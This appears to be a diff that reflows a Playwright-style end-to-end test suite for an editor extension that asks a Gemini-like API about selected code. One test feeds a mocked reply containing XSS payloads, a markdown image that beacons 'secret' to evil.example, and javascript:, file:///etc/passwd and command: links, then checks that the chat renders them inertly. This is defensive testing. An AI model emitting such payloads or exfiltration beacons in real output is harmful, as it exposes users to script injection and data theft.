@@ -47,18 +47,29 @@ describe('the main job: ask about selected code', function () {
     const input = workbench.page.locator('.quick-input-widget input');
     await input.fill('test-key');
     await workbench.page.keyboard.press('Enter');
-    await workbench.page.getByText(/Connected to http:\/\/127\.0\.0\.1/).first().waitFor({ timeout: patience });
+    await workbench.page
+      .getByText(/Connected to http:\/\/127\.0\.0\.1/)
+      .first()
+      .waitFor({ timeout: patience });
     assert.ok((await notifications(workbench.page)).some((text) => /models/.test(text)));
-    await workbench.panel.getByRole('button', { name: 'Set API key' }).first().waitFor({ state: 'hidden', timeout: patience });
+    await workbench.panel
+      .getByRole('button', { name: 'Set API key' })
+      .first()
+      .waitFor({ state: 'hidden', timeout: patience });
     await workbench.palette('Notifications: Clear All Notifications');
   });
 
   it('shows text growing before the answer has ended, and says that this is not Google', async () => {
-    workbench.emulator.script({ pieces: ['The discount is ', { gate: 'half' }, 'applied twice.\n\n```ts\nconst price = 1;\n```\n'] });
+    workbench.emulator.script({
+      pieces: ['The discount is ', { gate: 'half' }, 'applied twice.\n\n```ts\nconst price = 1;\n```\n'],
+    });
     await workbench.openFile('cart.ts');
     await workbench.selectLines(1, 5);
     await workbench.palette('Gemini: Ask About Selection');
-    await workbench.panel.getByRole('list', { name: 'Attachments' }).getByText(/cart\.ts:1-5/).waitFor({ timeout: patience });
+    await workbench.panel
+      .getByRole('list', { name: 'Attachments' })
+      .getByText(/cart\.ts:1-5/)
+      .waitFor({ timeout: patience });
     await workbench.screenshot('02-attached');
     await ask('What is wrong here?');
     await answer(0).getByText('The discount is').waitFor({ timeout: patience });
@@ -73,7 +84,10 @@ describe('the main job: ask about selected code', function () {
   });
 
   it('sent the selected lines exactly, and the key in the header only', () => {
-    const lines = readFileSync(path.join(workbench.workspace, 'src/cart.ts'), 'utf8').split('\n').slice(0, 5).join('\n');
+    const lines = readFileSync(path.join(workbench.workspace, 'src/cart.ts'), 'utf8')
+      .split('\n')
+      .slice(0, 5)
+      .join('\n');
     const [attached, question] = creates().at(-1)?.input ?? [];
     assert.equal(attached?.text, `From src/cart.ts, lines 1-5:\n\`\`\`typescript\n${lines}\n\`\`\``);
     assert.equal(question?.text, 'What is wrong here?');
@@ -84,7 +98,9 @@ describe('the main job: ask about selected code', function () {
 
   it('inserts a code block at the cursor as one undo step, and copies it', async () => {
     await answer(0).getByRole('button', { name: 'Copy code' }).click();
-    await workbench.page.waitForFunction(async () => (await navigator.clipboard.readText()) === 'const price = 1;');
+    await workbench.page.waitForFunction(
+      async () => (await navigator.clipboard.readText()) === 'const price = 1;',
+    );
     await workbench.openFile('README.md');
     await workbench.page.keyboard.press('Control+Home');
     await answer(0).getByRole('button', { name: 'Insert at cursor' }).click();
@@ -112,7 +128,10 @@ describe('the main job: ask about selected code', function () {
     await clickAndAsk('And now?');
     await answer(2).getByText('Still here.').waitFor({ timeout: patience });
     assert.match(creates().at(-1)?.previous_interaction_id ?? '', /^v1_/);
-    assert.equal(workbench.emulator.requests.findLast(({ method }) => method === 'POST')?.headers['x-goog-api-key'], 'test-key');
+    assert.equal(
+      workbench.emulator.requests.findLast(({ method }) => method === 'POST')?.headers['x-goog-api-key'],
+      'test-key',
+    );
     await workbench.screenshot('05-after-reload');
   });
 
@@ -121,7 +140,10 @@ describe('the main job: ask about selected code', function () {
     await clickAndAsk('Tell me');
     await answer(3).getByText('A long story.').waitFor({ timeout: patience });
     await workbench.page.keyboard.press('Escape');
-    await answer(3).getByRole('status').getByText(/stopped/i).waitFor({ timeout: patience });
+    await answer(3)
+      .getByRole('status')
+      .getByText(/stopped/i)
+      .waitFor({ timeout: patience });
     assert.equal(await answer(3).getByText('The end.').count(), 0);
     await workbench.screenshot('06-stopped');
   });
@@ -145,18 +167,35 @@ describe('the main job: ask about selected code', function () {
       text: '<img src=x onerror="document.title=1"><script>document.title=2</script>\n\n![pixel](https://evil.example/p.png?d=secret)\n\n[click](javascript:alert(1)) [file](file:///etc/passwd) [cmd](command:workbench.action.quit)\n\n<iframe src="https://evil.example/"></iframe>',
     });
     await clickAndAsk('Be evil');
-    await log().getByText(/<img src=x/).waitFor({ timeout: patience });
+    await log()
+      .getByText(/<img src=x/)
+      .waitFor({ timeout: patience });
     await workbench.screenshot('08-hostile');
     assert.equal(await log().locator('iframe, script, img').count(), 0);
-    const links = await log().getByRole('article').last().getByRole('link').evaluateAll((all) => all.map((each) => each.getAttribute('href')));
-    assert.deepEqual(links.filter((href) => href !== null && !/^https?:/.test(href)), []);
-    assert.deepEqual(requested.filter((url) => url.includes('evil.example')), []);
+    const links = await log()
+      .getByRole('article')
+      .last()
+      .getByRole('link')
+      .evaluateAll((all) => all.map((each) => each.getAttribute('href')));
+    assert.deepEqual(
+      links.filter((href) => href !== null && !/^https?:/.test(href)),
+      [],
+    );
+    assert.deepEqual(
+      requested.filter((url) => url.includes('evil.example')),
+      [],
+    );
   });
 
   it('opens the same chat in an editor tab', async () => {
     await workbench.palette('Gemini: Open Chat in Editor');
-    const tab = workbench.page.frameLocator('iframe.webview[src*="purpose=webviewPanel"], iframe.webview:not([src*="purpose"])').frameLocator('iframe#active-frame');
-    await tab.getByRole('log', { name: 'Conversation' }).getByText('Once is enough.').waitFor({ timeout: patience });
+    const tab = workbench.page
+      .frameLocator('iframe.webview[src*="purpose=webviewPanel"], iframe.webview:not([src*="purpose"])')
+      .frameLocator('iframe#active-frame');
+    await tab
+      .getByRole('log', { name: 'Conversation' })
+      .getByText('Once is enough.')
+      .waitFor({ timeout: patience });
     await workbench.screenshot('09-editor-tab');
   });
 });
